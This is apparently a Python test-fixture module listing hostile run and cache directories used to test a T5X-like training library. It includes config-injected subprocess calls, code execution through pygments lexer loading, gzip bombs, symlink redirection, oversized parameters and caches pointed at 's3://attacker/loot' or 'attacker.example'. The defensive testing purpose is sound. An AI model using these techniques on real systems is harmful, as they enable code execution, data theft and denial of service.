"""Kinds of hostile directories: what a stranger may put into a run and into a cache."""

from __future__ import annotations

import dataclasses
import gzip
import json
import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

HEAD = "from __gin__ import dynamic_registration\n"


@dataclasses.dataclass(frozen=True)
class World:
    """A run and a cache of a stranger, and what is around them.

    Attributes:
      theirs: the run; its cache, with the record of a task `hello`, is in `theirs/cache`.
      home: what is private to the reader.
      elsewhere: a folder that no command names.
    """

    theirs: Path
    home: Path
    elsewhere: Path

    def set(self, **macros: Any) -> None:
        """Changes macros of the run's configuration."""
        file = self.theirs / "config.gin"
        text = file.read_text()
        for name, value in macros.items():
            text, found = re.subn(
                rf"^{name} = .*(\n    .*)*",
                f"{name} = {value!r}".replace("\\", r"\\"),
                text,
                flags=re.M,
            )
            assert found == 1, name
        file.write_text(text)

    def add(self, text: str) -> None:
        """Appends lines to the run's configuration."""
        file = self.theirs / "config.gin"
        file.write_text(f"{file.read_text()}\n{text}\n")

    def record(self, **fields: Any) -> None:
        """Changes the record of `hello`."""
        file = self.theirs / "cache" / "tasks" / "hello.json"
        (row,) = json.loads(file.read_text())
        file.write_text(json.dumps([{**row, **fields}]))

    def link(self, name: str, target: Path) -> None:
        """Puts a link into the run."""
        place = self.theirs / name
        place.unlink(missing_ok=True)
        place.symlink_to(target)


def call(name: str, *args: Any, **kwargs: Any) -> dict[str, Any]:
    """Metrics of a record whose postprocess_fn is a function of somebody."""
    one = {"name": name, "args": list(args), "kwargs": kwargs}
    return {"metric_fns": [one], "postprocess_fn": one, "unnamed": []}


def _lexer(world: World) -> None:
    code = world.theirs / "model_card.txt"
    code.write_text(f"open({str(world.home / 'PWNED')!r}, 'w')\nclass CustomLexer: pass\n")
    world.record(metrics=call("pygments.lexers:load_lexer_from_file", str(code)))


def _ours(world: World) -> None:
    writes = call("t5x_like.core.whole_files:write", str(world.home / "PWNED"))
    world.record(metrics=writes)


def _lazy(world: World) -> None:
    fields = {"module_name": "this", "error_callback": None, "success_callback": None}
    kind = "etils.epy.lazy_imports_utils:LazyModule"
    world.record(objective={"class": kind, "fields": fields})


def _bombs(world: World) -> None:
    for file in (world.theirs / "cache" / "evaluation").rglob("*.jsonl.gz"):
        lines = gzip.decompress(file.read_bytes()).splitlines(keepends=True)
        with gzip.open(file, "wb", compresslevel=1) as out:
            out.write(lines[0])
            for _ in range(130):
                out.write(b" " * (1 << 20))


def _text(world: World) -> None:
    world.set(CORPUS=f"{world.home}/*.txt", CACHE_DIR=str(world.elsewhere / "loot"))


def _bucket(world: World) -> None:
    world.set(CORPUS=f"{world.home}/*.txt", CACHE_DIR="s3://attacker/loot")


def _mixture(world: World) -> None:
    world.set(CORPUS={"one": f"{world.home}/a.txt", "two": "https://attacker.example/text.txt"})


def _their_cache(world: World) -> None:
    world.set(CORPUS=None, MIXTURE_OR_TASK_NAME="hello", CACHE_DIR=str(world.theirs / "cache"))
    _lexer(world)


def _module(world: World) -> None:
    (world.theirs / "evil.py").write_text(f"open({str(world.home / 'PWNED')!r}, 'w')\n")
    world.set(MIXTURE_OR_TASK_MODULE=str(world.theirs / "evil.py"))


def _program(world: World) -> None:
    world.add(
        "import subprocess\nX = @subprocess.check_output()\n"
        f"subprocess.check_output.args = ['touch', {str(world.home / 'PWNED')!r}]"
    )


def _function(name: str, **arguments: Any) -> Callable[[World], None]:
    def change(world: World) -> None:
        module, _, function = name.rpartition(".")
        package, _, leaf = module.rpartition(".")
        lines = [f"from t5x_like.{package} import {leaf}", f"run.Run.phases = @{leaf}.{function}()"]
        lines += [f"{leaf}.{function}.{key} = {value!r}" for key, value in arguments.items()]
        world.add("\n".join(lines))

    return change


def _links(world: World) -> None:
    for name in ("report.html", "loss.png", ".training"):
        world.link(name, world.home / "rc")
    world.link("metrics.jsonl", world.elsewhere / "rc")
    world.link("predictions", world.elsewhere)
    cache = world.theirs / "cache"
    for name in ("tokens", "evaluation"):
        (cache / name).rename(cache / f"moved_{name}")
        (cache / name).symlink_to(world.elsewhere)
    (cache / "vocabularies").symlink_to(world.elsewhere)


OF_RUN: Mapping[str, Callable[[World], None]] = {
    "text of my home, cache elsewhere": _text,
    "text of my home, cache in a bucket": _bucket,
    "a mixture of my home and the web": _mixture,
    "a task of their cache": _their_cache,
    "a module": _module,
    "a program": _program,
    "a huge table": _function("objectives.noise.text_infilling.poisson_table", mean=1e9),
    "huge copies": _function(
        "layers.stacks.sharing.copies_in_groups",
        num_layers=3_000_000_000,
        num_groups=1,
        inner_layers=1,
    ),
    "huge n-grams": _function(
        "objectives.albert.ngram_lengths", longest=3_000_000_000, favor_shorter=True
    ),
}
"""Kinds of runs."""
OF_CACHE: Mapping[str, Callable[[World], None]] = {
    "a record with a function of a library": _lexer,
    "a record with a function of ours": _ours,
    "a record with a lazy module": _lazy,
    "examples that unpack": _bombs,
}
"""Kinds of caches."""
OF_BOTH: Mapping[str, Callable[[World], None]] = {"links in place of files and folders": _links}
"""Kinds of runs with caches in them."""
